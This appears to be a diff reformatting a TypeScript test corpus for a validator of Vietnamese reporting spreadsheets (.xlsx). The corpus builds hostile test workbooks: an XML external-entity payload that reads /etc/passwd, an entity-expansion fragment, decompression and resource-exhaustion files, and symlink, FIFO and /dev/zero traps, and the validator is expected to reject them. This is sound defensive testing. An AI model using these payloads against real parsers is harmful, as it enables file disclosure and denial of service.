         return x.replace('?>', `?>${dtd}`).replace('<workbookPr', '<workbookPr x="&lol9;"');
-      })),
+      }),
+    ),
     no('xml-xxe', 'Thực thể ngoài XML trỏ tới tệp hệ thống (XXE)', 'not_xlsx', async ({ valid }) =>
-      editXml(valid, 'xl/workbook.xml', (x) => x.replace('?>', '?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace('<workbookPr', '<workbookPr x="&xxe;"'))),
+      editXml(valid, 'xl/workbook.xml', (x) =>
+        x.replace('?>', '?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace('<workbookPr', '<workbookPr x="&xxe;"'),
+      ),
+    ),
     no('xml-far-cell', 'Một ô ở dòng 1.048.576 (kích thước trang vô lý)', 'too_large', async ({ valid }) => {
       const part = await sheetPart(valid, 'PL01');
       return editXml(valid, part, (x) => x.replace('</sheetData>', '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'));
@@ -447,49 +593,168 @@ const posix = process.platform !== 'win32';
 function resourceCases(): CorpusCase[] {
   const XFD = 'XFD1048576';
   return [
-    { ...ok('res-merge-whole-sheet', `Gộp ô A100:${XFD} (cả phần còn lại của trang)`, async ({ valid }) => {
-      const part = await sheetPart(valid, 'PL01');
-      return editXml(valid, part, (x) => x.replace('</mergeCells>', `<mergeCell ref="A100:${XFD}"/></mergeCells>`));
-    }, { stored: { values: { pl01_bl_vu: 2, pl01_bl_tre: 3 } } }), heavy: true },
-    { ...ok('res-merge-over-range', `Gộp ô phủ cả bảng văn bản PL02 (A7:${XFD}): văn bản phía dưới là trống`, async ({ valid }) => {
-      const part = await sheetPart(valid, 'PL02');
-      return editXml(valid, part, (x) => x.replace('</mergeCells>', `<mergeCell ref="A7:${XFD}"/></mergeCells>`));
-    }, { stored: { documents: 1 } }), heavy: true },
-    { ...ok('res-validation-whole-sheet', 'Kiểm tra dữ liệu (data validation) trên cả trang', async ({ valid }) =>
-      addToSheet(valid, 'PL01', `<dataValidations count="1"><dataValidation type="whole" operator="greaterThanOrEqual" allowBlank="1" sqref="A1:${XFD}"><formula1>0</formula1></dataValidation></dataValidations>`, ['hyperlinks', 'printOptions', 'pageMargins']), { stored: { values: { pl01_bl_vu: 2 } } }), heavy: true },
-    { ...ok('res-validation-columns', 'Kiểm tra dữ liệu trên cả các cột A:J (thói quen thường gặp)', async ({ valid }) => {
-      const part = await sheetPart(valid, 'PL02');
-      return editXml(valid, part, (x) => x.replace(/<dataValidations count="(\d+)">/, (_m, n) => `<dataValidations count="${Number(n) + 1}"><dataValidation type="textLength" operator="lessThan" allowBlank="1" sqref="A1:J1048576"><formula1>5000</formula1></dataValidation>`));
-    }, { stored: { documents: 1 } }), heavy: true },
-    { ...ok('res-conditional-whole-sheet', 'Định dạng có điều kiện trên cả trang', async ({ valid }) =>
-      addToSheet(valid, 'PL01', `<conditionalFormatting sqref="A1:${XFD}"><cfRule type="cellIs" dxfId="0" priority="1" operator="greaterThan"><formula>0</formula></cfRule></conditionalFormatting>`, ['dataValidations', 'hyperlinks', 'printOptions', 'pageMargins']), { stored: { values: { pl01_bl_vu: 2 } } }), heavy: true },
-    { ...ok('res-cols-huge', 'Định dạng cột cho cả 16.384 cột và kích thước khai báo A1:XFD1048576', async ({ valid }) => {
-      const part = await sheetPart(valid, 'PL01');
-      return editXml(valid, part, (x) => x.replace(/<dimension ref="[^"]*"\/>/, `<dimension ref="A1:${XFD}"/>`).replace(/<cols>.*?<\/cols>/, '<cols><col min="1" max="16384" width="12" customWidth="1"/></cols>'));
-    }, { stored: { values: { pl01_bl_vu: 2 } } }), heavy: true },
-    { ...ok('res-file-7mb-photo', 'Tệp 7 MB: đơn vị dán ảnh chụp văn bản (7 MB) vào trang hướng dẫn', async ({ valid }) =>
-      editZip(valid, (zip) => void zip.file('xl/media/image1.jpeg', randomBytes(7 * 1024 * 1024))), { stored: { values: { pl01_bl_vu: 2 } } }), heavy: true },
-    { ...no('res-file-7mb-rows', 'Tệp 7 MB: 4.900 dòng × 64 cột chữ ngẫu nhiên trong một trang (giải nén 22 MB)', 'too_large', async ({ valid }) => {
-      const part = await sheetPart(valid, 'HUONG_DAN');
-      return editXml(valid, part, (x) => x.replace(/<sheetData>.*<\/sheetData>|<sheetData\/>/s, `<sheetData>${noiseRows(1, 4900, 64, 18)}</sheetData>`));
-    }, /MB/), heavy: true },
-    { ...no('res-cells-many', '160.000 ô số trong giới hạn dòng, cột (quá số ô cho phép)', 'too_large', async ({ valid }) => {
-      const part = await sheetPart(valid, 'HUONG_DAN');
-      const rows = Array.from({ length: 2500 }, (_, i) => `<row r="${i + 1}">${Array.from({ length: 64 }, (_c, j) => `<c r="${String.fromCharCode(65 + Math.floor(j / 26))}${String.fromCharCode(65 + (j % 26))}${i + 1}"><v>${j}</v></c>`).join('')}</row>`).join('');
-      return editXml(valid, part, (x) => x.replace(/<sheetData>.*<\/sheetData>|<sheetData\/>/s, `<sheetData>${rows}</sheetData>`));
-    }, /ô dữ liệu/), heavy: true },
-    { ...no('res-xml-part-huge', 'Một trang tính giải nén ra 30 MB (nén còn nhỏ)', 'too_large', async ({ valid }) => {
-      const part = await sheetPart(valid, 'HUONG_DAN');
-      return editXml(valid, part, (x) => x.replace('</worksheet>', `<!--${' '.repeat(30 * 1024 * 1024)}--></worksheet>`));
-    }, /MB/), heavy: true },
-    { ...no('res-shared-strings-many', 'Bảng chuỗi khai báo 10 triệu chuỗi', 'too_large', async ({ valid }) =>
-      editXml(valid, 'xl/sharedStrings.xml', (x) => x.replace(/uniqueCount="\d+"/, 'uniqueCount="10000000"'))), heavy: true },
+    {
+      ...ok(
+        'res-merge-whole-sheet',
+        `Gộp ô A100:${XFD} (cả phần còn lại của trang)`,
+        async ({ valid }) => {
+          const part = await sheetPart(valid, 'PL01');
+          return editXml(valid, part, (x) => x.replace('</mergeCells>', `<mergeCell ref="A100:${XFD}"/></mergeCells>`));
+        },
+        { stored: { values: { pl01_bl_vu: 2, pl01_bl_tre: 3 } } },
+      ),
+      heavy: true,
+    },
+    {
+      ...ok(
+        'res-merge-over-range',
+        `Gộp ô phủ cả bảng văn bản PL02 (A7:${XFD}): văn bản phía dưới là trống`,
+        async ({ valid }) => {
+          const part = await sheetPart(valid, 'PL02');
+          return editXml(valid, part, (x) => x.replace('</mergeCells>', `<mergeCell ref="A7:${XFD}"/></mergeCells>`));
+        },
+        { stored: { documents: 1 } },
+      ),
+      heavy: true,
+    },
+    {
+      ...ok(
+        'res-validation-whole-sheet',
+        'Kiểm tra dữ liệu (data validation) trên cả trang',
+        async ({ valid }) =>
+          addToSheet(
+            valid,
+            'PL01',
+            `<dataValidations count="1"><dataValidation type="whole" operator="greaterThanOrEqual" allowBlank="1" sqref="A1:${XFD}"><formula1>0</formula1></dataValidation></dataValidations>`,
+            ['hyperlinks', 'printOptions', 'pageMargins'],
+          ),
+        { stored: { values: { pl01_bl_vu: 2 } } },
+      ),
+      heavy: true,
+    },
+    {
+      ...ok(
+        'res-validation-columns',
+        'Kiểm tra dữ liệu trên cả các cột A:J (thói quen thường gặp)',
+        async ({ valid }) => {
+          const part = await sheetPart(valid, 'PL02');
+          return editXml(valid, part, (x) =>
+            x.replace(
+              /<dataValidations count="(\d+)">/,
+              (_m, n) =>
+                `<dataValidations count="${Number(n) + 1}"><dataValidation type="textLength" operator="lessThan" allowBlank="1" sqref="A1:J1048576"><formula1>5000</formula1></dataValidation>`,
+            ),
+          );
+        },
+        { stored: { documents: 1 } },
+      ),
+      heavy: true,
+    },
+    {
+      ...ok(
+        'res-conditional-whole-sheet',
+        'Định dạng có điều kiện trên cả trang',
+        async ({ valid }) =>
+          addToSheet(
+            valid,
+            'PL01',
+            `<conditionalFormatting sqref="A1:${XFD}"><cfRule type="cellIs" dxfId="0" priority="1" operator="greaterThan"><formula>0</formula></cfRule></conditionalFormatting>`,
+            ['dataValidations', 'hyperlinks', 'printOptions', 'pageMargins'],
+          ),
+        { stored: { values: { pl01_bl_vu: 2 } } },
+      ),
+      heavy: true,
+    },
+    {
+      ...ok(
+        'res-cols-huge',
+        'Định dạng cột cho cả 16.384 cột và kích thước khai báo A1:XFD1048576',
+        async ({ valid }) => {
+          const part = await sheetPart(valid, 'PL01');
+          return editXml(valid, part, (x) =>
+            x
+              .replace(/<dimension ref="[^"]*"\/>/, `<dimension ref="A1:${XFD}"/>`)
+              .replace(/<cols>.*?<\/cols>/, '<cols><col min="1" max="16384" width="12" customWidth="1"/></cols>'),
+          );
+        },
+        { stored: { values: { pl01_bl_vu: 2 } } },
+      ),
+      heavy: true,
+    },
+    {
+      ...ok(
+        'res-file-7mb-photo',
+        'Tệp 7 MB: đơn vị dán ảnh chụp văn bản (7 MB) vào trang hướng dẫn',
+        async ({ valid }) => editZip(valid, (zip) => void zip.file('xl/media/image1.jpeg', randomBytes(7 * 1024 * 1024))),
+        { stored: { values: { pl01_bl_vu: 2 } } },
+      ),
+      heavy: true,
+    },
+    {
+      ...no(
+        'res-file-7mb-rows',
+        'Tệp 7 MB: 4.900 dòng × 64 cột chữ ngẫu nhiên trong một trang (giải nén 22 MB)',
+        'too_large',
+        async ({ valid }) => {
+          const part = await sheetPart(valid, 'HUONG_DAN');
+          return editXml(valid, part, (x) => x.replace(/<sheetData>.*<\/sheetData>|<sheetData\/>/s, `<sheetData>${noiseRows(1, 4900, 64, 18)}</sheetData>`));
+        },
+        /MB/,
+      ),
+      heavy: true,
+    },
+    {
+      ...no(
+        'res-cells-many',
+        '160.000 ô số trong giới hạn dòng, cột (quá số ô cho phép)',
+        'too_large',
+        async ({ valid }) => {
+          const part = await sheetPart(valid, 'HUONG_DAN');
+          const rows = Array.from(
+            { length: 2500 },
+            (_, i) =>
+              `<row r="${i + 1}">${Array.from({ length: 64 }, (_c, j) => `<c r="${String.fromCharCode(65 + Math.floor(j / 26))}${String.fromCharCode(65 + (j % 26))}${i + 1}"><v>${j}</v></c>`).join('')}</row>`,
+          ).join('');
+          return editXml(valid, part, (x) => x.replace(/<sheetData>.*<\/sheetData>|<sheetData\/>/s, `<sheetData>${rows}</sheetData>`));
+        },
+        /ô dữ liệu/,
+      ),
+      heavy: true,
+    },
+    {
+      ...no(
+        'res-xml-part-huge',
+        'Một trang tính giải nén ra 30 MB (nén còn nhỏ)',
+        'too_large',
+        async ({ valid }) => {
+          const part = await sheetPart(valid, 'HUONG_DAN');
+          return editXml(valid, part, (x) => x.replace('</worksheet>', `<!--${' '.repeat(30 * 1024 * 1024)}--></worksheet>`));
+        },
+        /MB/,
+      ),
+      heavy: true,
+    },
+    {
+      ...no('res-shared-strings-many', 'Bảng chuỗi khai báo 10 triệu chuỗi', 'too_large', async ({ valid }) =>
+        editXml(valid, 'xl/sharedStrings.xml', (x) => x.replace(/uniqueCount="\d+"/, 'uniqueCount="10000000"')),
+      ),
+      heavy: true,
+    },
     ...(posix
       ? [
-          { ...no('fs-symlink-dev-zero', 'Tệp .xlsx là liên kết tới /dev/zero', 'not_xlsx', async () => Buffer.alloc(0), /liên kết/), place: (dir: string) => link(dir, 'zero.xlsx', '/dev/zero') },
-          { ...no('fs-fifo', 'Tệp .xlsx là một FIFO (đường ống)', 'not_xlsx', async () => Buffer.alloc(0), /đường ống/), place: (dir: string) => fifo(dir, 'pipe.xlsx') },
+          {
+            ...no('fs-symlink-dev-zero', 'Tệp .xlsx là liên kết tới /dev/zero', 'not_xlsx', async () => Buffer.alloc(0), /liên kết/),
+            place: (dir: string) => link(dir, 'zero.xlsx', '/dev/zero'),
+          },
+          {
+            ...no('fs-fifo', 'Tệp .xlsx là một FIFO (đường ống)', 'not_xlsx', async () => Buffer.alloc(0), /đường ống/),
+            place: (dir: string) => fifo(dir, 'pipe.xlsx'),
+          },
           { ...no('fs-device', 'Đường dẫn là thiết bị /dev/zero', 'not_xlsx', async () => Buffer.alloc(0), /thiết bị/), place: () => '/dev/zero' },
-          { ...no('fs-symlink-loop', 'Thư mục có liên kết vòng trỏ vào chính nó', 'not_xlsx', async () => Buffer.alloc(0), /liên kết/), place: (dir: string) => loopFolder(dir) },
+          {
+            ...no('fs-symlink-loop', 'Thư mục có liên kết vòng trỏ vào chính nó', 'not_xlsx', async () => Buffer.alloc(0), /liên kết/),
+            place: (dir: string) => loopFolder(dir),
+          },
         ]
       : []),
   ];
@@ -517,35 +782,80 @@ function loopFolder(dir: string): string {
 }
 
 function contractCases(): CorpusCase[] {
-  const rename = (name: string, ref: string) => async ({ valid }: CorpusBase) =>
-    editXml(valid, 'xl/workbook.xml', (x) => x.replace(new RegExp(`(<definedName name="${name}">)[^<]*`), (_m, open: string) => open + ref));
+  const rename =
+    (name: string, ref: string) =>
+    async ({ valid }: CorpusBase) =>
+      editXml(valid, 'xl/workbook.xml', (x) => x.replace(new RegExp(`(<definedName name="${name}">)[^<]*`), (_m, open: string) => open + ref));
   return [
     no('name-into-meta', 'Tên ô chỉ tiêu trỏ vào trang _meta (ô năm)', 'name_into_meta', rename('v_pl01_bl_vu', '_meta!$B$6'), /v_pl01_bl_vu/),
     no('name-text-into-meta', 'Tên ô văn bản trỏ vào trang _meta (workbook_id)', 'name_into_meta', rename('t_a2', '_meta!$B$11'), /t_a2/),
-    no('name-two-on-one-cell', 'Hai tên ô chỉ tiêu cùng trỏ một ô', 'name_shared', async ({ valid }) => {
-      const x = await JSZip.loadAsync(valid).then((z) => z.file('xl/workbook.xml')!.async('string'));
-      const target = /<definedName name="v_pl01_bl_vu">([^<]*)/.exec(x)![1]!;
-      return rename('v_pl01_bl_tre', target)({ valid } as CorpusBase);
-    }, /v_pl01_bl_tre/),
+    no(
+      'name-two-on-one-cell',
+      'Hai tên ô chỉ tiêu cùng trỏ một ô',
+      'name_shared',
+      async ({ valid }) => {
+        const x = await JSZip.loadAsync(valid).then((z) => z.file('xl/workbook.xml')!.async('string'));
+        const target = /<definedName name="v_pl01_bl_vu">([^<]*)/.exec(x)![1]!;
+        return rename('v_pl01_bl_tre', target)({ valid } as CorpusBase);
+      },
+      /v_pl01_bl_tre/,
+    ),
     no('name-wrong-cell', 'Tên ô chỉ tiêu trỏ sang ô khác của trang (C40)', 'name_misplaced', rename('v_pl01_bl_nu', 'PL01!$C$40'), /v_pl01_bl_nu/),
     no('name-range-not-cell', 'Tên ô chỉ tiêu trỏ tới một vùng nhiều ô', 'name_misplaced', rename('v_tt_cuoc', 'PL01!$C$6:$D$7'), /v_tt_cuoc/),
     no('name-wrong-sheet', 'Tên ô chỉ tiêu trỏ sang trang khác', 'name_misplaced', rename('v_tt_cuoc', 'PL01!$C$6'), /v_tt_cuoc/),
-    no('meta-second-unit-code', 'Dòng unit_code thứ hai ẩn trong _meta', 'meta_duplicate', ({ workbook }) => workbook((wb) => {
-      const meta = wb.getWorksheet('_meta')!;
-      meta.getCell(60, 1).value = 'unit_code';
-      meta.getCell(60, 2).value = 'X01';
-    }), /unit_code/),
-    ok('meta-unit-name-other', 'Tên đơn vị trong _meta khác danh sách (cùng mã): nhận, có cảnh báo nêu cả hai tên', ({ workbook }) => workbook((wb) => setMeta(wb, 'unit_name', 'Xã Không Tên')), { code: 'unit_name_mismatch' }),
-    ok('doc-signed-form', 'Đơn vị ký tên, ghi ngày ở khối chữ ký dưới bảng văn bản', ({ workbook }) => workbook((wb) => {
-      const ws = wb.getWorksheet('PL02')!;
-      ws.getCell('A308').value = 'Tân Phú, ngày 05 tháng 12 năm 2026';
-      ws.getCell('A313').value = 'Nguyễn Văn An';
-    }), { stored: { documents: 1 } }),
-    no('doc-right-below', 'Văn bản gõ ngay dưới bảng Phụ lục 02 (dòng 306)', 'doc_below_range', ({ workbook }) => workbook((wb) => {
-      wb.getWorksheet('PL02')!.getRow(306).values = ['Cấp xã', 'Kế hoạch', '10/KH-UBND', new Date(Date.UTC(2026, 2, 1)), 'UBND xã', 'Kế hoạch truyền thông'];
-    }), /dòng 306/),
+    no(
+      'meta-second-unit-code',
+      'Dòng unit_code thứ hai ẩn trong _meta',
+      'meta_duplicate',
+      ({ workbook }) =>
+        workbook((wb) => {
+          const meta = wb.getWorksheet('_meta')!;
+          meta.getCell(60, 1).value = 'unit_code';
+          meta.getCell(60, 2).value = 'X01';
+        }),
+      /unit_code/,
+    ),
+    ok(
+      'meta-unit-name-other',
+      'Tên đơn vị trong _meta khác danh sách (cùng mã): nhận, có cảnh báo nêu cả hai tên',
+      ({ workbook }) => workbook((wb) => setMeta(wb, 'unit_name', 'Xã Không Tên')),
+      { code: 'unit_name_mismatch' },
+    ),
+    ok(
+      'doc-signed-form',
+      'Đơn vị ký tên, ghi ngày ở khối chữ ký dưới bảng văn bản',
+      ({ workbook }) =>
+        workbook((wb) => {
+          const ws = wb.getWorksheet('PL02')!;
+          ws.getCell('A308').value = 'Tân Phú, ngày 05 tháng 12 năm 2026';
+          ws.getCell('A313').value = 'Nguyễn Văn An';
+        }),
+      { stored: { documents: 1 } },
+    ),
+    no(
+      'doc-right-below',
+      'Văn bản gõ ngay dưới bảng Phụ lục 02 (dòng 306)',
+      'doc_below_range',
+      ({ workbook }) =>
+        workbook((wb) => {
+          wb.getWorksheet('PL02')!.getRow(306).values = [
+            'Cấp xã',
+            'Kế hoạch',
+            '10/KH-UBND',
+            new Date(Date.UTC(2026, 2, 1)),
+            'UBND xã',
+            'Kế hoạch truyền thông',
+          ];
+        }),
+      /dòng 306/,
+    ),
     {
-      ...no('batch-two-files-one-unit', 'Hai tệp khác nhau của cùng một xã, cùng năm, trong một thư mục: không nhận tệp nào', 'conflicting_files', async ({ workbook }) => workbook()),
+      ...no(
+        'batch-two-files-one-unit',
+        'Hai tệp khác nhau của cùng một xã, cùng năm, trong một thư mục: không nhận tệp nào',
+        'conflicting_files',
+        async ({ workbook }) => workbook(),
+      ),
       companion: ({ workbook }) => workbook((wb) => (named(wb, 'v_pl01_bl_nam').value = 1)),
       place: (dir, bytes, companion) => {
         const folder = path.join(dir, 'hai-tep');
@@ -555,15 +865,33 @@ function contractCases(): CorpusCase[] {
         return folder;
       },
     },
-    no('doc-below-range', 'Văn bản gõ dưới bảng Phụ lục 02 (dòng 320)', 'doc_below_range', ({ workbook }) => workbook((wb) => {
-      const ws = wb.getWorksheet('PL02')!;
-      ws.getRow(320).values = ['Cấp xã', 'Quyết định', '9/QĐ-UBND', new Date(Date.UTC(2026, 2, 1)), 'UBND xã', 'Quyết định thành lập tổ công tác'];
-    }), /dòng 320/),
+    no(
+      'doc-below-range',
+      'Văn bản gõ dưới bảng Phụ lục 02 (dòng 320)',
+      'doc_below_range',
+      ({ workbook }) =>
+        workbook((wb) => {
+          const ws = wb.getWorksheet('PL02')!;
+          ws.getRow(320).values = ['Cấp xã', 'Quyết định', '9/QĐ-UBND', new Date(Date.UTC(2026, 2, 1)), 'UBND xã', 'Quyết định thành lập tổ công tác'];
+        }),
+      /dòng 320/,
+    ),
   ];
 }
 
 export function corpusCases(): CorpusCase[] {
-  return [...containerCases(), ...metaCases(), ...nameCases(), ...numberCases(), ...numberCasesAcrossCells(), ...textCases(), ...documentCases(), ...xmlCases(), ...contractCases(), ...resourceCases()];
+  return [
+    ...containerCases(),
+    ...metaCases(),
+    ...nameCases(),
+    ...numberCases(),
+    ...numberCasesAcrossCells(),
+    ...textCases(),
+    ...documentCases(),
+    ...xmlCases(),
+    ...contractCases(),
+    ...resourceCases(),
+  ];
 }
 
 export const CORPUS_DOC = DOC;
